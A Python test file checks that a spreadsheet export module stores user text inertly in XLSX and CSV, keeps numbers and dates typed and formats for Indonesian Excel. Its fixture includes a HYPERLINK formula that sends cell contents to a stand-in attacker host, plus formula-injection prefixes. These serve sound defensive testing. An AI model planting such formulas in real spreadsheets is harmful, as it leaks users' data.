"""Spreadsheets: typed user text stays inert text, numbers and dates keep their type, and Excel reads both formats."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.spreadsheets import Code, spreadsheet_response

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
HEADERS = ["NDH", "Name", "NIP", "Score", "When", "Day"]
ROW = [
    7,
    FORMULA,
    Code("197502042000062002", "19750204 200006 2 002"),
    Decimal("85.50"),
    datetime.datetime(2017, 8, 21, 9, 30, tzinfo=datetime.timezone.utc),
    datetime.date(2017, 8, 21),
]


def xlsx(rows, headers=HEADERS):
    response = spreadsheet_response("rekap", headers, rows, "xlsx", title="Rekap Angkatan I")
    return response, load_workbook(io.BytesIO(response.content)).active


def csv_rows(rows, headers=HEADERS):
    response = spreadsheet_response("rekap", headers, rows, "csv", title="Rekap Angkatan I")
    return response, list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_xlsx_writes_formula_like_text_as_a_string_cell_with_no_formula_in_the_file():
    response, sheet = xlsx([ROW])

    cell = sheet["B4"]
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)
    assert "<f>" not in sheet_xml


def test_xlsx_keeps_numbers_dates_and_the_nip_in_their_types():
    _response, sheet = xlsx([ROW])

    ndh, _name, nip, score, when, day = (sheet.cell(4, column) for column in range(1, 7))
    assert (ndh.value, ndh.data_type) == (7, "n")
    assert (score.value, score.number_format) == (85.5, "0.00")
    assert (nip.value, nip.data_type, nip.number_format) == ("197502042000062002", "s", "@")
    # Dates in the cohort's time zone (Asia/Jakarta), as dates Excel can sort and filter.
    assert (when.value, when.number_format) == (datetime.datetime(2017, 8, 21, 16, 30), "DD/MM/YYYY HH:MM")
    assert (day.value, day.number_format) == (datetime.datetime(2017, 8, 21), "DD/MM/YYYY")


def test_xlsx_has_a_title_row_a_frozen_filtered_header_and_column_widths():
    _response, sheet = xlsx([ROW, [8, "Bonar", None, None, None, None]])

    assert sheet["A1"].value == "Rekap Angkatan I"
    assert sheet["A2"].value.startswith("Made on ")
    assert [cell.value for cell in sheet[3]] == HEADERS
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:F5"
    assert sheet.column_dimensions["B"].width == len(FORMULA) + 2
    assert sheet.column_dimensions["A"].width == 8


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    _response, sheet = xlsx([[1, "Rina\x00\x0b Sembiring", None, None, None, None]])

    assert sheet["B4"].value == "Rina Sembiring"


@pytest.mark.parametrize("text", ["=1+1", "+628123", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_csv_prefixes_text_a_spreadsheet_would_evaluate(text):
    _response, rows = csv_rows([[1, text, None, None, None, None]])

    assert rows[1][1] == "'" + text


def test_csv_opens_in_an_indonesian_excel_semicolons_decimal_commas_and_day_month_year():
    response, rows = csv_rows([ROW])

    assert response.content.startswith("\ufeff".encode())
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert rows[0] == HEADERS
    assert rows[1] == ["7", "'" + FORMULA, "19750204 200006 2 002", "85,50", "21/08/2017 16:30", "21/08/2017"]


def test_csv_leaves_numbers_and_ordinary_text_alone():
    _response, rows = csv_rows([[-3, "Rina Sembiring", None, Decimal("-1.5"), None, None]])

    assert rows[1] == ["-3", "Rina Sembiring", "", "-1,5", "", ""]


def test_spreadsheet_download_is_named_for_its_type_and_never_sniffed():
    response, _sheet = xlsx([ROW])

    assert response["Content-Disposition"].startswith('attachment; filename="rekap-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert response["X-Content-Type-Options"] == "nosniff"
